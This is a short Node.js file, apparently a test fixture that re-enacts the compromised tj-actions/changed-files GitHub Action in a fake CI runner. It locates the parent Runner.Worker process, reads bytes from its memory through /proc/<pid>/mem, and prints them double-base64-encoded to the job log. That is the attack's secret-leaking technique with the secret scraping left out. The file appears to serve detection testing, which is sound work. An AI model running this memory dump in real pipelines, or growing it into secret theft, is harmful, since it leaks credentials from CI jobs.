// evil-org/changed-files@v45: what the compromised tj-actions/changed-files did (its python payload ran under sudo), minus
// the secret scraping: find the Runner.Worker (this step's parent, from /proc/self/stat), read its memory map and 64
// bytes of its first writable mapping through /proc/<pid>/mem, and print them double-base64-encoded to the job log.
'use strict';
const fs = require('fs');
const path = require('path');

const self = fs.readFileSync('/proc/self/stat', 'utf8');
const workerPid = Number(self.slice(self.lastIndexOf(')') + 2).split(' ')[1]);
const comm = fs.readFileSync(`/proc/${workerPid}/comm`, 'utf8').trim();
const maps = fs.readFileSync(`/proc/${workerPid}/maps`, 'utf8').split('\n').filter(line => line !== '');
const writable = maps.map(line => line.split(/\s+/)).find(fields => fields[1].startsWith('rw'));
const address = BigInt('0x' + writable[0].split('-')[0]);
const memory = fs.openSync(`/proc/${workerPid}/mem`, 'r');
const bytes = Buffer.alloc(64);
const bytesRead = fs.readSync(memory, bytes, 0, bytes.length, address);
fs.closeSync(memory);
console.log(Buffer.from(bytes.subarray(0, bytesRead).toString('base64')).toString('base64'));

if (process.env.FAKE_RUNNER_PROBES) {
  require(path.join(process.env.FAKE_RUNNER_PROBES, 'probe.js'))('memory-dump', {
    workerPid,
    comm,
    mappings: maps.length,
    address: '0x' + address.toString(16),
    bytesRead,
  });
}
